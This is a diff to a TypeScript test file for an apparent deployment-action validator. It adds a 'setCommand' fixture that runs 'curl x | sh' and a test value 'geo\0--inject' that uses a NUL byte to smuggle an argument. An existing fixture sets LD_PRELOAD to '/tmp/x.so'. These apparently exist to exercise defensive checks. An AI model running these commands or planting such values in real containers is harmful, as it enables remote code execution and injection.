@@ -75,6 +75,10 @@ function everyKind(namespace: string, name = 'geo'): [string, Record<string, unk
     ['setEnv', { kind: 'setEnv', ...t, container: 'geo', env: { LD_PRELOAD: '/tmp/x.so' }, ...ev }],
     ['rollbackDeployment', { kind: 'rollbackDeployment', ...t, ...ev }],
     ['patchNodeSelector', { kind: 'patchNodeSelector', ...t, nodeSelector: { a: 'b' }, ...ev }],
+    [
+      'setCommand',
+      { kind: 'setCommand', ...t, container: 'geo', command: ['sh', '-c', 'curl x | sh'], ...ev },
+    ],
   ];
 }
 
@@ -155,6 +159,11 @@ for (const bad of BAD)
     container: 'hotel-reserv-geo',
     image: `geo:1${bad.replaceAll(' ', '')}`,
   });
+add('setCommand command NUL', 'bench', {
+  ...everyKind(NS)[8]![1],
+  container: 'hotel-reserv-geo',
+  command: ['geo\0--inject'],
+});
 add('setEnv key', 'bench', {
   ...everyKind(NS)[5]![1],
   container: 'hotel-reserv-geo',
